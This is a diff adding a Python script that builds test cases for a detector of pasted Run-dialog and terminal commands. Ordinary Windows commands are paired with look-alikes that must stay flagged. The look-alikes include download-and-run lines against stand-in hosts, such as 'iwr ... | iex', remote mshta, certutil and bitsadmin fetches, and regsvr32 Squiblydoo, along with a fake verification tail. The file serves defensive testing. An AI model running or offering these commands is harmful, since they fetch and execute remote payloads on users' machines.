@@ -1,0 +1,232 @@
+"""Writes tests/data/cases/b15benign.jsonl: ordinary texts that were warned about or blocked (the
+fifteenth blind set's benign misses, by technique), each beside the look-alikes that try to
+abuse the clearing and must stay flagged or blocked.
+
+    python tests/data/cases/make_b15benign.py
+
+Deterministic. Names are made up; hosts are reserved names (*.test, *.example, *.invalid,
+documentation addresses). No text is copied from a blind set, a lure collection or another
+detector's fixtures. Each line is {id, text, expect, technique, platform, source, target}.
+
+Principles:
+
+- `runbox-tool-own-tab`: Windows' own tool opening one of its tabs or views (`msconfig -4`,
+  `magnify /lens`), from an IT wiki, a check page or typed: the tool alone was already a program
+  name from any page, and the switch reaches no file, computer or address. Look-alikes, blocked
+  from a page: a file, a share, an address, a second switch, a script host, and the typed-only
+  entries of other tools (`outlook /safe /profile Contoso`, `cleanmgr /sageset:7`: blocked when
+  a page writes them, as make_b7benign and make_b9benign decided).
+- `runbox-typed-console-folder`: a console kept open in a folder of this computer on a status
+  query (`cmd /k cd /d D:\\src && git status`, `powershell -NoExit -Command Set-Location
+  D:\\src`), typed (no source). Look-alikes: the same from a page (blocked), a fetch, a share,
+  `cmd /c`, a download after it, a git switch that runs a program, too many steps.
+- `runbox-typed-directory-console`: Active Directory's consoles on a domain or a domain
+  controller by name (`mmc dsa.msc /domain=corp.example`), typed. Look-alikes: a share, a
+  console not Windows' own, the same from a page, a switch twice.
+- `prose-command-as-subject`: a sentence whose subject is a command ("conhost.exe --headless
+  is used to hide…"), pasted where the guard does not know what runs. Look-alikes: the same
+  command with an address or a command after it, a `;` that starts a program, the command
+  given real arguments.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py
+
+OUT = Path(__file__).with_name("b15benign.jsonl")
+TERMINAL = "terminal"
+RUN = "run_dialog"
+UNKNOWN = "unknown"
+OTHER = "other"
+WIKI = "https://wiki.quarrylabs.example/it/desktop-support"
+LURE = "https://verify-session.umbra-stage.test/check"
+CHECK_TAIL = " # I am not a robot - Verification ID: 4471"
+
+# -- Windows' own tool on one of its tabs or views, from a wiki or typed ------------------------
+
+OWN_TAB = [
+    "msconfig -1",
+    "msconfig -2",
+    "msconfig -4",
+    "msconfig.exe -5",
+    "MSCONFIG -3",
+    "magnify /lens",
+    "magnify.exe /fullscreen",
+    "Magnify /docked",
+    '"msconfig.exe" -4',
+    "magnify.exe /lens",
+]
+OWN_TAB_LOOKALIKES = [
+    "msconfig -4 https://verify-session.umbra-stage.test/",
+    "msconfig -4 -4",
+    "msconfig \\\\203.0.113.7\\s\\boot.ini",
+    "magnify /lens /fullscreen C:\\Users\\Public\\m.hta",
+    "magnify /lens & mshta https://verify-session.umbra-stage.test/a",
+    "cleanmgr /sagerun:7",
+    "cleanmgr /verylowdisk",
+    "cleanmgr /d C: /autoclean",
+    "cleanmgr /sageset:7 /sageset:8",
+    "outlook /altvba C:\\Users\\Public\\VbaProject.otm",
+    "outlook /safe /profile Contoso /altvba %TEMP%\\x.otm",
+    "outlook /profile \\\\203.0.113.7\\share\\p",
+    "outlook /profile https://verify-session.umbra-stage.test/p",
+    "outlook /safe /c ipm.note /a C:\\Users\\Public\\invoice.exe",
+    "mshta /lens",
+    "powershell /profile Contoso",
+    # typed-only entries (resources/runbox.yaml `tools`) stay commands when a page writes them
+    "cleanmgr /sageset:7",
+    "outlook /safe /profile Contoso",
+    "outlook /safe /nopreview",
+    "msconfig -4 /safe",
+    "magnify /lens /lens",
+]
+
+# -- a console kept open in a folder of this computer on a status query, typed -----------------
+
+CONSOLE_FOLDER = [
+    "cmd /k cd /d D:\\work\\ledger-tool && git status",
+    "cmd /k cd /d C:\\src\\website & git log --oneline",
+    "cmd.exe /k cd C:\\Users\\sam\\source\\repos\\api && git branch -a",
+    "cmd /k pushd %USERPROFILE%\\projects\\fernpack && git status -s",
+    'cmd /k cd /d "D:\\My Projects\\site" && git diff --stat',
+    "cmd /k ipconfig /all & git status",
+    "cmd /K cd /d E:\\repos\\tidewatch && git status && git log --oneline",
+    "powershell -NoExit -Command Set-Location D:\\Projects\\2031",
+    "powershell.exe -NoExit -Command Set-Location -Path C:\\src\\lanternfs",
+    "pwsh -NoExit -Command cd %USERPROFILE%\\source",
+    "powershell -NoProfile -NoExit -c sl D:\\work",
+    'pwsh -NoExit -Command Push-Location "C:\\Users\\sam\\My Repos"',
+]
+CONSOLE_FOLDER_LOOKALIKES = [
+    # (text, source, expect)
+    ("cmd /k cd /d D:\\work\\ledger-tool && git status", LURE, "malicious"),
+    ("cmd /k cd /d D:\\work\\ledger-tool && git status", WIKI, "malicious"),
+    ("powershell -NoExit -Command Set-Location D:\\Projects\\2031", LURE, "malicious"),
+    ("cmd /k cd /d D:\\work && git pull", None, "flagged"),
+    ("cmd /k cd /d D:\\work && git clone https://git.umbra-stage.test/x", None, "flagged"),
+    ("cmd /k cd /d D:\\work && git status & curl -o a.exe https://umbra-stage.test/a.exe", None, "flagged"),
+    ("cmd /k cd /d \\\\203.0.113.7\\share && git status", None, "flagged"),
+    ("cmd /k pushd \\\\files.umbra-stage.test\\s && git status", None, "flagged"),
+    ("cmd /c cd /d D:\\work && start update.exe", None, "flagged"),
+    ("cmd /k cd /d D:\\work && git -c core.fsmonitor=calc status", None, "flagged"),
+    ("cmd /k cd /d D:\\work && git status && git status && git status && git status", None, "flagged"),
+    ("cmd /k cd /d D:\\work && git status | findstr x", None, "flagged"),
+    ("powershell -NoExit -Command Set-Location \\\\203.0.113.7\\s", None, "flagged"),
+    ("powershell -NoExit -Command Set-Location D:\\w; iwr https://umbra-stage.test/p | iex", None, "malicious"),
+    ("powershell -Command Set-Location D:\\w", None, "flagged"),
+    ("powershell -NoExit -EncodedCommand UwBlAHQALQBMAG8AYwBhAHQAaQBvAG4A", None, "flagged"),
+    ("pwsh -NoExit -Command Set-Location D:\\w D:\\x", None, "flagged"),
+    ("cmd /k cd /d D:\\work && git status" + CHECK_TAIL, LURE, "malicious"),
+]  # fmt: skip
+
+# -- Active Directory's consoles on a domain or a domain controller by name, typed ------------
+
+DIRECTORY = [
+    "mmc.exe dsa.msc /domain=corp.example",
+    "mmc dsa.msc /server=dc01.corp.example",
+    "dsa.msc /domain=quarrylabs.example",
+    "dsa.msc /domain=corp.example /server=dc02.corp.example",
+    "dssite.msc /server=dc01",
+    "mmc dssite.msc /domain=ad.quarrylabs.example",
+    "DSA.MSC /server=DC-03",
+    "mmc.exe dsa.msc /server=192.0.2.10",
+    "dsa.msc /domain=corp.example /32",
+    "mmc dsa.msc /server=dc01.corp.example /a",
+]
+DIRECTORY_LOOKALIKES = [
+    ("mmc dsa.msc /domain=\\\\203.0.113.7\\s", None, "flagged"),
+    ("mmc \\\\203.0.113.7\\s\\dsa.msc /domain=corp.example", None, "flagged"),
+    ("mmc evil.msc /domain=corp.example", None, "flagged"),
+    ("dsa.msc /domain=corp.example /domain=x.example", None, "flagged"),
+    ("dsa.msc /domain=https://umbra-stage.test/", None, "flagged"),
+    ("mmc.exe dsa.msc /domain=corp.example", LURE, "malicious"),
+    ("dsa.msc /server=dc01.corp.example", WIKI, "malicious"),
+    ("mmc dsa.msc /domain=corp.example & powershell -w h iwr umbra-stage.test|iex", None, "malicious"),
+    ("mmc dsa.msc /domain=corp.example C:\\Users\\Public\\x.msc", None, "flagged"),
+    ("mmc %TEMP%\\dsa.msc /domain=corp.example", None, "flagged"),
+]  # fmt: skip
+
+# -- a sentence whose subject is a command --------------------------------------------------------
+
+SUBJECT = [
+    "conhost.exe --headless is used to hide the console window of the child it starts; defenders pair it with a download before alerting.",
+    "mshta can run an HTA straight from a web address, which is why fake check pages keep using it.",
+    "certutil -urlcache -f was abused for years to fetch files, so most rule sets watch it closely.",
+    "powershell -w hidden is what most of these lures add so that no window shows up at all.",
+    "rundll32 has been used to start exported functions of libraries that arrive in mail attachments.",
+    "bitsadmin /transfer is deprecated by Microsoft but still ships with every recent version of Windows.",
+    "curl -fsSL is the usual way installers are fetched, and it is not a warning sign on its own.",
+    "msiexec /q can install a package without asking, which helpdesk scripts rely on every day.",
+    "wscript should never be the program that opens a file you just got from an unknown sender.",
+    "regsvr32 /s /i was the trick known as Squiblydoo, loading a scriptlet from a remote server.",
+    "conhost --headless ist ein legitimer Schalter, wird aber von Angreifern gern missbraucht.",
+    "mshta est un programme de Windows qui peut lancer des applications HTML depuis une adresse.",
+]  # fmt: skip
+SUBJECT_LOOKALIKES = [
+    # (text, target, expect)
+    ("conhost.exe --headless powershell -w h -c \"iwr https://umbra-stage.test/p | iex\"", UNKNOWN, "malicious"),
+    ("mshta is https://verify-session.umbra-stage.test/a.hta and nothing else to see here", UNKNOWN, "flagged"),
+    ("conhost --headless is used to hide the console; powershell -w h -enc SQBFAFgA", UNKNOWN, "flagged"),
+    ("certutil -urlcache -f https://umbra-stage.test/a.exe a.exe was how it arrived", UNKNOWN, "flagged"),
+    ("conhost.exe --headless is used; mshta https://verify-session.umbra-stage.test/x", RUN, "malicious"),
+    ("mshta can run this: mshta https://verify-session.umbra-stage.test/check.hta", RUN, "malicious"),
+    ("powershell -w hidden is the way & iwr https://umbra-stage.test/p -OutFile $env:TEMP\\a.exe", UNKNOWN, "flagged"),
+    ("bitsadmin /transfer job https://umbra-stage.test/a.exe %TEMP%\\a.exe is the command we use", UNKNOWN, "flagged"),
+    ("conhost --headless is used to hide the console of cmd /c start %TEMP%\\a.exe", UNKNOWN, "flagged"),
+    ("curl -fsSL is used by the installer | bash", TERMINAL, "flagged"),
+    ("regsvr32 /s /n /u /i:https://umbra-stage.test/x.sct scrobj.dll is Squiblydoo", UNKNOWN, "flagged"),
+    ("mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\") is a test", UNKNOWN, "flagged"),
+]  # fmt: skip
+
+
+def run_box(book: Book) -> None:
+    for i, text in enumerate(OWN_TAB):
+        book.add(
+            "runbox-tool-own-tab", text, "not_flagged", "windows", RUN, (WIKI, None, LURE)[i % 3]
+        )
+    for i, text in enumerate(OWN_TAB_LOOKALIKES):
+        page = (LURE, WIKI)[i % 2]
+        book.add("runbox-tool-own-tab-lookalike", text, "malicious", "windows", RUN, page)
+    for text in CONSOLE_FOLDER:
+        book.add("runbox-typed-console-folder", text, "not_flagged", "windows", RUN)
+    for text, page, expect in CONSOLE_FOLDER_LOOKALIKES:
+        book.add("runbox-typed-console-folder-lookalike", text, expect, "windows", RUN, page)
+    for text in DIRECTORY:
+        book.add("runbox-typed-directory-console", text, "not_flagged", "windows", RUN)
+    for text, page, expect in DIRECTORY_LOOKALIKES:
+        book.add("runbox-typed-directory-console-lookalike", text, expect, "windows", RUN, page)
+
+
+def prose(book: Book) -> None:
+    pages = ("https://blog.detection-notes.example/lolbins", None)
+    for i, text in enumerate(SUBJECT):
+        book.add(
+            "prose-command-as-subject",
+            text,
+            "not_flagged",
+            "any",
+            (UNKNOWN, OTHER)[i % 2],
+            pages[i % 2],
+        )
+    for text, target, expect in SUBJECT_LOOKALIKES:
+        book.add("prose-command-as-subject-lookalike", text, expect, "any", target, pages[0])
+
+
+def build() -> list[dict[str, str]]:
+    book = Book("b15b")
+    run_box(book)
+    prose(book)
+    return book.cases
+
+
+CASES = build()
+
+
+def main() -> None:
+    write(OUT, CASES)
+
+
+if __name__ == "__main__":
+    main()
